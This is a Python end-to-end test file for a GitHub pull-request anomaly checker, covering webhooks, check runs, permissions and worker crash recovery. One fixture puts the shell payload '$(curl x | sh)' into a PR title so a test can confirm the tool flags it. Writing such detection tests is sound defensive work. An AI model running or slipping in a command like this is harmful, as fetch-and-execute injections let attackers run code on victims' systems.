"""End to end: signed webhooks into real gunicorn, a worker process, MLflow's champion, the fake GitHub API."""
from __future__ import annotations

import signal

import pytest

from app.check_runs import MAX_REASON_CHARS
from prguard import markdown
from prguard.config import Settings
from prguard.model import registry
from tests.e2e.conftest import INSTALLATION_ID, REPO
from tests.e2e.deliveries import pull_request_event, requested_action_event
from tests.e2e.service import wait_until

pytestmark = pytest.mark.slow

RUN_TIMEOUT = 90  # seconds for a check run to arrive, retries and a first model load included


def unusual_pull(github, number: int) -> dict:
    """Many files across many areas, a workflow edit, a shell payload in the title, a first-timer."""
    files = [{"filename": f"area{i % 40}/sub{i}/f{i}.py", "additions": 30, "deletions": 2} for i in range(150)]
    files.append({"filename": ".github/workflows/ci.yml", "additions": 3})
    return github.add_pull(REPO, number, title="Update $(curl x | sh)", author_association="FIRST_TIME_CONTRIBUTOR",
                           files=files, commits=30, body="")


def typical_pull(github, number: int) -> dict:
    return github.add_pull(REPO, number, title="Improve module", body="Details of the change.",
                           author_association="MEMBER", files=[{"filename": "src/core/mod1.py", "additions": 12,
                                                                "deletions": 2}])


def runs_for(github, sha: str) -> list[dict]:
    return [run for run in github.check_runs if run["head_sha"] == sha]


def completed_run(github, service, sha: str, timeout: float = RUN_TIMEOUT, conclusion: str | None = None) -> dict:
    def done():
        runs = [r for r in runs_for(github, sha) if r["status"] == "completed"
                and (conclusion is None or r["conclusion"] == conclusion)]
        return runs[0] if runs else None
    try:
        return wait_until(done, timeout, what=f"a completed check run for {sha[:12]}")
    except AssertionError:
        raise AssertionError(f"no completed check run for {sha[:12]}; runs: {runs_for(github, sha)}\n"
                             f"{service.logs()}") from None


@pytest.fixture(scope="module")
def champion_bundle(champion):
    return registry.load_champion(Settings.from_env({"MLFLOW_TRACKING_URI": champion[0]}))


def test_webhook_to_check_run_with_the_champions_verdict_and_reasons(service, github, store, champion,
                                                                     champion_bundle):
    pr = unusual_pull(github, 101)
    sha = pr["head"]["sha"]
    delivery = "e2e-opened-101"
    status, seconds = service.post("pull_request", pull_request_event("opened", pr, INSTALLATION_ID), delivery)
    assert status == 202 and seconds < 2.0

    run = completed_run(github, service, sha)
    assert run["name"] == "PRGuard" and run["external_id"] == f"prguard:{REPO}:{sha}"
    expected = champion_bundle.score([store.prs.get(REPO, 101)])[0]
    assert expected["anomalous"], expected
    assert run["conclusion"] == "neutral"
    # Both kinds of evidence: the shell payload in the title is a finding, the shape is the model's.
    assert run["output"]["title"].startswith("Unusual: shell command in the title; score ")
    for reason in expected["reasons"]:  # as the check run shows them: escaped (prguard.markdown)
        assert f"- {markdown.text(reason['sentence'], MAX_REASON_CHARS)}" in run["output"]["summary"]
    assert f"Model version: `{champion[1]}`" in run["output"]["summary"]
    assert any(a["path"] == ".github/workflows/ci.yml" and a["annotation_level"] == "warning"
               for a in run["annotations"])
    assert [a["identifier"] for a in run["actions"]] == ["mark_expected"]
    # The same delivery again is acknowledged and changes nothing.
    status, _ = service.post("pull_request", pull_request_event("opened", pr, INSTALLATION_ID), delivery)
    assert status in (200, 202)
    typical = typical_pull(github, 102)
    service.post("pull_request", pull_request_event("opened", typical, INSTALLATION_ID))
    assert completed_run(github, service, typical["head"]["sha"])["conclusion"] == "success"
    assert len(runs_for(github, sha)) == 1
    assert github.request_count(r"/check-runs$", "POST") == 2


def test_synchronize_gives_a_run_for_the_new_head_sha(service, github):
    pr = typical_pull(github, 103)
    service.post("pull_request", pull_request_event("opened", pr, INSTALLATION_ID))
    old_sha = pr["head"]["sha"]
    completed_run(github, service, old_sha)
    moved = github.update_pull(REPO, 103, head_sha="f" * 40)
    status, _ = service.post("pull_request", pull_request_event("synchronize", moved, INSTALLATION_ID))
    assert status == 202
    completed_run(github, service, "f" * 40)
    assert len(runs_for(github, old_sha)) == 1 and len(runs_for(github, "f" * 40)) == 1


def _press_handled(store, delivery: str) -> None:
    def done():
        return any(j["kind"] == "mark_expected" and j["payload"]["delivery_id"] == delivery
                   and j["state"] == "done" for j in store.jobs.list())
    wait_until(done, RUN_TIMEOUT, what=f"the worker to handle the press of delivery {delivery}")


def flagged_then_pressed(service, github, number: int, user: str, role: str) -> tuple[dict, dict, str]:
    """An unusual PR scored into a check run, then "Mark as expected" pressed on it by ``user`` holding
    ``role``; returns the PR, the run before the press and the press's delivery id."""
    pr = unusual_pull(github, number)
    service.post("pull_request", pull_request_event("opened", pr, INSTALLATION_ID))
    run = completed_run(github, service, pr["head"]["sha"])
    github.set_role(REPO, user, role)
    delivery = f"e2e-press-{number}"
    status, _ = service.post("check_run", requested_action_event(run, pr, INSTALLATION_ID, user=user), delivery)
    assert status == 202
    return pr, run, delivery


def test_mark_as_expected_from_a_reader_changes_nothing_and_is_logged(service, github, store):
    pr, run, delivery = flagged_then_pressed(service, github, 108, "pr-author", "read")
    sha = pr["head"]["sha"]
    _press_handled(store, delivery)
    [after] = runs_for(github, sha)
    assert after == run  # same conclusion, output and button: the run stays as it was
    assert [f for f in store.feedback.list(REPO) if f["head_sha"] == sha] == []
    assert github.request_count(r"/collaborators/pr-author/permission$", "GET") == 1
    assert "mark as expected by pr-author refused" in service.logs("worker")


def test_mark_as_expected_by_a_writer_is_stored_and_a_new_push_is_scored_afresh(service, github, store):
    pr, run, _ = flagged_then_pressed(service, github, 104, "octo-lead", "write")
    sha = pr["head"]["sha"]
    green = completed_run(github, service, sha, conclusion="success")
    assert green["id"] == run["id"] and green["output"]["title"] == "Marked as expected by @octo-lead"
    assert green["actions"] == []
    [label] = [f for f in store.feedback.list(REPO) if f["head_sha"] == sha]
    assert (label["number"], label["label"], label["user"]) == (104, "expected", "octo-lead")
    assert label["created_at"] is not None
    assert len(runs_for(github, sha)) == 1
    # The label holds for the head SHA it was given on: a push to the PR is judged again.
    moved = github.update_pull(REPO, 104, head_sha="e" * 40)
    service.post("pull_request", pull_request_event("synchronize", moved, INSTALLATION_ID))
    again = completed_run(github, service, "e" * 40)
    assert again["conclusion"] == "neutral" and [a["identifier"] for a in again["actions"]] == ["mark_expected"]


def test_failing_api_still_gives_every_run_exactly_once(service, github):
    github.fail_next(r"/check-runs$", 500, count=2, method="POST")
    # A secondary rate limit on the third create: the worker waits retry-after and creates it then.
    github.fail_next(r"/check-runs$", 403, count=1, method="POST", headers={"retry-after": "1"}, skip=2)
    github.slow_next(r"/pulls/\d+/files$", 3.5, count=1)  # longer than the worker's 2 s timeout
    github.fail_next(r"/pulls/\d+/files$", 502, count=4)  # more than the client retries within one attempt
    prs = [typical_pull(github, n) for n in (105, 106, 107)]
    for pr in prs:
        assert service.post("pull_request", pull_request_event("opened", pr, INSTALLATION_ID))[0] == 202
    for pr in prs:
        completed_run(github, service, pr["head"]["sha"], timeout=90)
    for pr in prs:
        assert len(runs_for(github, pr["head"]["sha"])) == 1


def test_worker_killed_mid_job_loses_nothing(service, github, store):
    pr = typical_pull(github, 108)
    sha = pr["head"]["sha"]
    # GitHub creates the run but its answer stalls: the worker dies before it learns the run's id.
    github.slow_next(r"/check-runs$", 10, count=1, method="POST")
    service.post("pull_request", pull_request_event("opened", pr, INSTALLATION_ID))
    wait_until(lambda: runs_for(github, sha), RUN_TIMEOUT, 0.02, "the run to be created")
    (job,) = [j for j in store.jobs.list("running") if j["payload"]["number"] == 108]
    assert service.kill_worker(service.worker_holding(job["lease_owner"]), signal.SIGKILL) == -signal.SIGKILL
    assert store.checks.get_run(REPO, sha)["check_run_id"] is None
    newcomer = service.start_worker()  # the survivor or the newcomer takes the job once its lease expires
    run = completed_run(github, service, sha)
    assert run["conclusion"] == "success"
    assert len(runs_for(github, sha)) == 1
    wait_until(lambda: not store.jobs.list("running") and not store.jobs.list("pending"), 20,
               what="an empty queue")
    assert store.jobs.list("dead") == []
    assert store.checks.get_run(REPO, sha)["check_run_id"] == run["id"]  # found by external_id, not re-created
    assert len(runs_for(github, sha)) == 1
    # SIGTERM is a graceful stop: the worker finishes what it holds and exits cleanly.
    assert service.kill_worker(newcomer, signal.SIGTERM) == 0
